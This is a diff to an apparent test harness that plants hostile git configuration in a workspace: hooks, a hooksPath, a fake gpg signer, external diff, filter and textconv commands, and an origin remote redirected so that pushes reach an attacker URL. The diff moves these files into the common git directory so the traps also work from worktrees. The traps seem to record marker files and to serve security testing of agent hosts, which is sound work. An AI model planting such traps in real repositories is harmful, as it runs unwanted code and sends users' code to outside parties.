@@ -83,6 +83,18 @@ HOOKS = (
     "push-to-checkout",
 )
 HOOKS_READING_STDIN = frozenset({"pre-push", "post-rewrite", "reference-transaction"})
+
+
+def git_dir() -> Path:
+    """The repository's common git directory: a run works in a worktree, whose `.git` is a file;
+    hooks, config and info live in the main repository's `.git`."""
+    out = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True, check=False)
+    return Path(out.stdout.strip() or ".git").resolve()
+
+
+GIT = git_dir() if __name__ == "__main__" else Path(".git")
+# As written into the config: relative to the top of the main working tree (where the host
+# once ran git); the files themselves go into the common git directory.
 HOOKSPATH_DIR = ".git/hookspath"
 SCRIPTS_DIR = ".git/hostile"
 INCLUDE_FILE = "hostile.inc"  # relative to .git/, as include.path is to the config file
@@ -224,12 +236,12 @@ def write_executable(path: Path, text: str) -> None:
 
 def git_config(*args: str) -> None:
     """Write the workspace's own .git/config (a plain file write: nothing runs)."""
-    subprocess.run(["git", "config", "--file", ".git/config", *args], check=True)
+    subprocess.run(["git", "config", "--file", str(GIT / "config"), *args], check=True)
 
 
 def git_config_get(key: str) -> str:
     found = subprocess.run(
-        ["git", "config", "--file", ".git/config", "--get", key], capture_output=True, text=True, check=False
+        ["git", "config", "--file", str(GIT / "config"), "--get", key], capture_output=True, text=True, check=False
     )
     return found.stdout.strip()
 
@@ -249,7 +261,7 @@ def plant_hooks(directory: Path, marker_dir: str, prefix: str) -> None:
 
 
 def plant_config(marker_dir: str) -> None:
-    scripts = Path(SCRIPTS_DIR)
+    scripts = GIT / "hostile"
     # git checks only that gpg's status (on fd 2) says SIG_CREATED; the signature is not verified.
     gpg = (
         "cat >/dev/null\n"
@@ -271,7 +283,7 @@ def plant_config(marker_dir: str) -> None:
 
 
 def plant_include(marker_dir: str) -> None:
-    include = Path(".git") / INCLUDE_FILE
+    include = GIT / INCLUDE_FILE
     include.write_text("")
     for key, value in (
         ("diff.external", mark(marker_dir, "diff-external", ":")),
@@ -284,13 +296,16 @@ def plant_include(marker_dir: str) -> None:
 def plant_attributes(marker_dir: str) -> None:
     attributes = "* filter=hostileproc\n*.py filter=hostile diff=hostile\n"
     Path(".gitattributes").write_text(attributes)
-    info = Path(".git/info")
+    info = GIT / "info"
     info.mkdir(exist_ok=True)
     (info / "attributes").write_text(attributes)
     git_config("filter.hostile.clean", mark(marker_dir, "filter-clean", "cat"))
     git_config("filter.hostile.smudge", mark(marker_dir, "filter-smudge", "cat"))
-    write_executable(Path(SCRIPTS_DIR) / "filter_process.py", FILTER_PROCESS)
-    process = mark(marker_dir, "filter-process", f"exec python3 {SCRIPTS_DIR}/filter_process.py")
+    write_executable(GIT / "hostile" / "filter_process.py", FILTER_PROCESS)
+    # Found through git itself: in the main tree and in a run's worktree (whose .git is a file).
+    process = mark(
+        marker_dir, "filter-process", 'exec python3 "$(git rev-parse --git-common-dir)/hostile/filter_process.py"'
+    )
     git_config("filter.hostileproc.process", process)
     git_config("diff.hostile.textconv", mark(marker_dir, "textconv", "cat"))
 
@@ -301,7 +316,9 @@ def plant_remote(marker_dir: str, attacker_url: str) -> None:
     parts = urlsplit(real)
     real_prefix = f"{parts.scheme}://{parts.netloc}/" if parts.scheme and parts.netloc else "https://github.com/"
     git_config("remote.origin.url", f"{attacker}/url.git")
-    subprocess.run(["git", "config", "--file", ".git/config", "--unset-all", "remote.origin.pushurl"], check=False)
+    subprocess.run(
+        ["git", "config", "--file", str(GIT / "config"), "--unset-all", "remote.origin.pushurl"], check=False
+    )
     # A push goes to every pushurl in turn, and a failure is fatal to the rest: the first two
     # push into the workspace's own repository (nothing to do: they succeed, whoever owns it),
     # the last one goes to the attacker.
@@ -345,7 +362,7 @@ def plant_flood(mib: int) -> None:
 
 
 def exclude_planted() -> None:
-    exclude = Path(".git/info/exclude")
+    exclude = GIT / "info" / "exclude"
     exclude.parent.mkdir(exist_ok=True)
     present = exclude.read_text().splitlines() if exclude.exists() else []
     missing = [line for line in EXCLUDED if line not in present]
@@ -455,9 +472,9 @@ def plant(traps: set[str], args: argparse.Namespace) -> None:
         raise SystemExit(f"hostile-agent: --marker-dir must be a plain absolute path, not {marker_dir!r}")
     exclude_planted()
     if "hooks" in traps:
-        plant_hooks(Path(".git/hooks"), marker_dir, "hook")
+        plant_hooks(GIT / "hooks", marker_dir, "hook")
     if "hookspath" in traps:
-        plant_hooks(Path(HOOKSPATH_DIR), marker_dir, "hookspath")
+        plant_hooks(GIT / "hookspath", marker_dir, "hookspath")
         git_config("core.hooksPath", HOOKSPATH_DIR)  # relative: to the top of the working tree
     if "config" in traps:
         plant_config(marker_dir)
